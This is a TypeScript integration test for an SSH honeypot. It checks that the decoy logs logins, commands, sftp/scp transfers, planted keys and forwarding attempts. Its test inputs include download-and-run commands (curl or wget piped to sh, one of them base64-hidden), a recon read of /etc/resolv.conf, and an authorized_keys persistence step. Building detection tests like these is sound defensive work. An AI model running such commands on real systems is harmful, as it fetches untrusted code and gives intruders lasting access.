/** OpenSSH's own programs against the SSH decoy, from the first guess to a file that is left. */
import assert from 'node:assert/strict';
import { type ChildProcessWithoutNullStreams, execFile, execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { string, u32 } from '../../src/honeypot/ssh/protocol/bytes.ts';
import { type Sensor, startSensor, without } from './sensor.ts';

interface Ran {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

describe('the SSH decoy', { skip: without('ssh', 'sftp', 'ssh-keygen') }, () => {
  let sensor: Sensor;
  let folder = '';
  const options = ['-oStrictHostKeyChecking=no', '-oUserKnownHostsFile=/dev/null', '-oLogLevel=ERROR'];

  before(async () => {
    folder = mkdtempSync(join(tmpdir(), 'waterguard-ssh-'));
    writeFileSync(join(folder, 'askpass'), '#!/bin/sh\necho "$WATERGUARD_TEST_PASSWORD"\n');
    chmodSync(join(folder, 'askpass'), 0o700);
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(folder, 'key')]);
    sensor = await startSensor(['ssh']);
  });
  after(async () => {
    await sensor[Symbol.asyncDispose]();
    rmSync(folder, { recursive: true, force: true });
  });

  function call(program: string, args: readonly string[], password = '', input?: string): Promise<Ran> {
    return new Promise((resolve) => {
      const env = {
        PATH: process.env.PATH,
        SSH_ASKPASS: join(folder, 'askpass'),
        SSH_ASKPASS_REQUIRE: 'force',
        WATERGUARD_TEST_PASSWORD: password,
      };
      const child = execFile(
        program,
        [...options, ...args],
        { env, timeout: 60_000 },
        (error, stdout, stderr) =>
          resolve({
            code: typeof error?.code === 'number' ? error.code : error === null ? 0 : -1,
            stdout,
            stderr,
          }),
      );
      child.stdin?.end(input);
    });
  }

  const ssh = (password: string, ...args: readonly string[]): Promise<Ran> =>
    call(
      'ssh',
      [
        '-oPubkeyAuthentication=no',
        '-oNumberOfPasswordPrompts=1',
        `-p${sensor.port('ssh')}`,
        'root@127.0.0.1',
        ...args,
      ],
      password,
    );

  it('a password as people choose them opens, one of chance does not, and both are taken down', async () => {
    const refused = await ssh('kX9#vT2$qLw8Zp', 'id');
    assert.equal(refused.code, 255);
    assert.match(refused.stderr, /Permission denied \(publickey,password\)/);
    const { code, stdout } = await ssh('admin123', 'echo in; exit 3');
    assert.deepEqual([code, stdout], [3, 'in\n']);
    const right = await sensor.event('ssh.auth', (one) => one.data?.accepted === true);
    assert.deepEqual([right.data?.user, right.data?.password], ['root', 'admin123']);
    assert.ok(right.attack.includes('T1078'));
    await sensor.event(
      'ssh.auth',
      (one) => one.data?.accepted === false && one.data?.password === 'kX9#vT2$qLw8Zp',
    );
    assert.match(right.fp.ua ?? '', /^SSH-2\.0-OpenSSH_/);
    assert.match(right.fp.hassh ?? '', /^[0-9a-f]{32}$/);
  });

  it('a command runs to its end, and its event has the addresses that it hides', async () => {
    const hidden = Buffer.from('curl -fsSL http://192.0.2.44/init.sh | bash').toString('base64');
    const { code, stdout } = await ssh(
      'root',
      `for i in 1 2 3; do echo $i; done; echo ${hidden} | base64 -d | sh; cat -`,
    );
    assert.equal(code, 0);
    assert.match(stdout, /^1\n2\n3\n/);
    const { norm, attack } = await sensor.event('ssh.exec', (one) => one.norm.hosts.length > 0);
    assert.deepEqual(norm.hosts, ['192.0.2.44']);
    assert.deepEqual(norm.urls, ['http://192.0.2.44/init.sh']);
    assert.ok(attack.includes('T1105'), attack.join());
    const result = await sensor.event('ssh.exec.result', (one) => one.norm.hosts.includes('192.0.2.44'));
    assert.equal(result.data?.exitCode, 0);
  });

  it('a session knows who it came from, and its shell calls itself as sshd calls it', async () => {
    const { stdout, stderr } = await ssh(
      'root',
      'echo $SSH_CLIENT; echo $SSH_CONNECTION; echo $USER $LOGNAME $SHELL $SHLVL $0 $SSH_TTY; no-such-thing',
    );
    const [client = '', connection, names] = stdout.split('\n');
    assert.match(client, /^127\.0\.0\.1 \d+ 22$/);
    assert.match(connection ?? '', /^127\.0\.0\.1 \d+ [\d.]+ 22$/);
    assert.equal(names, 'root root /bin/bash 1 bash');
    assert.match(stderr, /^bash: line 1: no-such-thing: command not found$/m);
  });

  it('what a command is fed is evidence, and what it writes of the machine is not', async () => {
    const script = 'wget -q http://192.0.2.47/fed.sh -O- | sh\n';
    const args = ['-oPubkeyAuthentication=no', `-p${sensor.port('ssh')}`, 'root@127.0.0.1'];
    const command = 'sh -s; cat /etc/resolv.conf > /tmp/recon';
    const fed = await call('ssh', [...args, command], 'root', script);
    assert.equal(fed.code, 0, fed.stderr);
    const { norm, data, raw } = await sensor.event('ssh.exec.result', (one) => one.data?.stdin === script);
    assert.deepEqual([norm.hosts, raw.len], [['192.0.2.47'], script.length]);
    assert.ok(norm.commands.includes('sh'), norm.commands.join());
    const left = data?.artefacts as { name: string }[];
    assert.deepEqual(
      left.map((one) => one.name),
      ['/tmp/recon'],
    );
  });

  it('a key that was planted opens afterwards, for whoever planted it', async () => {
    const key = readFileSync(join(folder, 'key.pub'), 'utf8').trim();
    const byKey = [
      '-oPasswordAuthentication=no',
      '-i',
      join(folder, 'key'),
      `-p${sensor.port('ssh')}`,
      'root@127.0.0.1',
    ];
    assert.equal((await call('ssh', [...byKey, 'id'])).code, 255);
    assert.equal((await ssh('root', `mkdir -p ~/.ssh && echo '${key}' >> ~/.ssh/authorized_keys`)).code, 0);
    assert.deepEqual((await call('ssh', [...byKey, 'echo by key'])).stdout, 'by key\n');
    const planted = await sensor.event('ssh.exec', (one) => one.attack.includes('T1098.004'));
    assert.equal(planted.severity, 'high');
    await sensor.event('ssh.auth', (one) => one.data?.method === 'publickey' && one.data?.accepted === true);
  });

  it('files are put, listed, read and removed by sftp, and kept as evidence', async () => {
    const script = '#!/bin/sh\nwget -q http://192.0.2.45/second.sh -O- | sh\n';
    writeFileSync(join(folder, 'first.sh'), script);
    const batch = join(folder, 'batch');
    writeFileSync(
      batch,
      `put ${folder}/first.sh /tmp/first.sh\nls -la /tmp\nget /tmp/first.sh ${folder}/back.sh\nmkdir /root/.x\nchmod 755 /tmp/first.sh\nrename /tmp/first.sh /root/.x/y\nrm /root/.x/y\nrmdir /root/.x\ndf /\nbye\n`,
    );
    const { code, stdout, stderr } = await call('sftp', [
      ...['-i', join(folder, 'key'), `-P${sensor.port('ssh')}`, '-b', batch, 'root@127.0.0.1'],
    ]);
    assert.equal(code, 0, stderr);
    assert.match(stdout, /-rw-r--r-- .* root +root +55 .*first\.sh/);
    assert.equal(readFileSync(join(folder, 'back.sh'), 'utf8'), script);
    const put = await sensor.event('ssh.file.put');
    assert.equal(put.data?.path, '/tmp/first.sh');
    assert.deepEqual(put.norm.hosts, ['192.0.2.45']);
    assert.equal((put.data?.artefacts as { sha256: string }[])[0]?.sha256, put.raw.sha256);
  });

  it('files are copied by the old protocol of scp too, there and back, and kept as evidence', async () => {
    const script = '#!/bin/sh\nwget -q http://192.0.2.46/third.sh -O- | sh\n';
    mkdirSync(join(folder, 'kit/bin'), { recursive: true });
    writeFileSync(join(folder, 'kit/run.sh'), script, { mode: 0o755 });
    writeFileSync(join(folder, 'kit/bin/x'), Buffer.from([0, 1, 2, 255, 10, 13]));
    const scp = (...args: readonly string[]) =>
      call('scp', ['-O', '-i', join(folder, 'key'), `-P${sensor.port('ssh')}`, ...args]);
    const there = await scp('-rp', join(folder, 'kit'), 'root@127.0.0.1:/tmp/');
    assert.deepEqual(there, { code: 0, stdout: '', stderr: '' });
    const { norm, data } = await sensor.event('ssh.exec.result', (one) =>
      String(one.data?.command).startsWith('scp -r'),
    );
    assert.deepEqual(norm.hosts, ['192.0.2.46']);
    const digest = createHash('sha256').update(script).digest('hex');
    const left = data?.artefacts as { name: string; sha256: string }[];
    assert.equal(left.find((one) => one.name === '/tmp/kit/run.sh')?.sha256, digest);
    const back = await scp('-rp', 'root@127.0.0.1:/tmp/kit', join(folder, 'back'));
    assert.deepEqual(back, { code: 0, stdout: '', stderr: '' });
    assert.equal(readFileSync(join(folder, 'back/run.sh'), 'utf8'), script);
    assert.equal(statSync(join(folder, 'back/run.sh')).mode & 0o777, 0o755);
    assert.deepEqual(readFileSync(join(folder, 'back/bin/x')), Buffer.from([0, 1, 2, 255, 10, 13]));
    const nowhere = await scp(join(folder, 'kit/run.sh'), 'root@127.0.0.1:/nowhere/x');
    assert.deepEqual([nowhere.code, nowhere.stderr], [1, 'scp: /nowhere/x: No such file or directory\n']);
    const refused = await sensor.event('ssh.exec.result', (one) =>
      String(one.data?.command).endsWith('/nowhere/x'),
    );
    assert.deepEqual([refused.raw.len > 0, refused.norm.commands], [true, []]);
  });

  it('each file of a copy is evidence by itself, also behind a long one, and what scp says around them is not', async () => {
    const [first, second] = ['192.0.2.48', '192.0.2.49'].map((host) => `wget -q http://${host}/x -O- | sh\n`);
    writeFileSync(join(folder, 'first.sh'), first + '# so it goes on\n'.repeat(30_000), { mode: 0o755 });
    writeFileSync(join(folder, 'second.sh'), second!, { mode: 0o755 });
    const files = ['first.sh', 'second.sh'].map((name) => join(folder, name));
    const to = ['-i', join(folder, 'key'), `-P${sensor.port('ssh')}`, ...files, 'root@127.0.0.1:/tmp/'];
    const copied = await call('scp', ['-O', ...to]);
    assert.deepEqual(copied, { code: 0, stdout: '', stderr: '' });
    const { norm } = await sensor.event('ssh.exec.result', (one) => one.norm.hosts.includes('192.0.2.48'));
    assert.deepEqual([...norm.hosts].sort(), ['192.0.2.48', '192.0.2.49']);
    assert.ok(norm.commands.includes('sh'), norm.commands.join());
    assert.deepEqual(
      norm.commands.filter((one) => one.startsWith('C0')),
      [],
    );
  });

  describe('a visitor who is cut off', () => {
    /** Talks to what the decoy runs until it has answered, and is gone without a word. */
    function cutOff(args: readonly string[], talk: (child: ChildProcessWithoutNullStreams) => Promise<void>) {
      const env = {
        PATH: process.env.PATH,
        SSH_ASKPASS: join(folder, 'askpass'),
        SSH_ASKPASS_REQUIRE: 'force',
        WATERGUARD_TEST_PASSWORD: 'admin123',
      };
      const child = spawn(
        'ssh',
        [...options, '-oPubkeyAuthentication=no', `-p${sensor.port('ssh')}`, ...args],
        { env },
      );
      child.stdin.on('error', () => {});
      return talk(child).finally(() => child.kill('SIGKILL'));
    }

    it('in the midst of a file leaves what came of it', async () => {
      const packet = (type: number, ...fields: readonly Buffer[]) =>
        string(Buffer.concat([Buffer.of(type), ...fields]));
      await cutOff(['-s', 'root@127.0.0.1', 'sftp'], async ({ stdin, stdout }) => {
        const [path, flags] = [string('/tmp/half'), u32(0x1a)];
        stdin.write(packet(1, u32(3)));
        await once(stdout, 'data');
        stdin.write(packet(3, u32(1), path, flags, u32(0)));
        const [opened] = (await once(stdout, 'data')) as [Buffer];
        assert.equal(opened[4], 102, 'a handle');
        stdin.write(packet(6, u32(2), opened.subarray(9), u32(0), u32(0), string('half of it')));
        await once(stdout, 'data');
      });
      const { data } = await sensor.event('ssh.file.put', (one) => one.data?.path === '/tmp/half');
      assert.equal(data?.size, 'half of it'.length);
    });

    it('in the midst of a command has its input end there', async () => {
      const command = 'echo begun; cat > /tmp/fed; wc -c < /tmp/fed > /tmp/length; cat /tmp/length';
      await cutOff(['root@127.0.0.1', command], async ({ stdin, stdout }) => {
        await once(stdout, 'data');
        stdin.write('as much as that');
        await sleep(300);
      });
      await sensor.event('ssh.exec.result', (one) => String(one.data?.command).startsWith('echo begun'));
    });
  });

  it('connections through the decoy are asked for, taken down and refused', async () => {
    const { code, stderr } = await call('ssh', [
      ...['-i', join(folder, 'key'), `-p${sensor.port('ssh')}`, '-W', '198.51.100.7:25', 'root@127.0.0.1'],
    ]);
    assert.notEqual(code, 0);
    assert.match(stderr, /forwarding failed|open failed/);
    const forward = await sensor.event('ssh.forward');
    assert.deepEqual([forward.data?.host, forward.data?.port], ['198.51.100.7', 25]);
  });
});
